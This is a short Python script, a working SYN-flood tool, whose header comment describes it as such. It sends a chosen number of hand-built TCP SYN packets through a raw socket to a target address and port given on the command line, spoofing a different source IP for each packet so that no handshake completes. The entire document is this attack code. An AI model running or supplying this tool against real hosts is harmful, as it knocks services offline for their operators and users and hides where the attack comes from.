# Sends N SYNs to DST:PORT from spoofed sources NET.x.y (one per SYN, source ports counting up)
# through a raw socket: the flood of a SYN flood, with none of the handshakes ever completed.
import random, socket, struct, sys

def checksum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff

dst, port, n, net = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
d = socket.inet_aton(dst)
for i in range(n):
    src = socket.inet_aton('%s.%d.%d' % (net, (i >> 8) & 255, (i & 255) or 1))
    sport = 1024 + i % 60000
    tcp = struct.pack('!HHIIBBHHH', sport, port, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = src + d + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), i & 0xffff, 0, 64, 6, 0, src, d)
    s.sendto(ip + tcp, (dst, 0))
print('sent', n, flush=True)
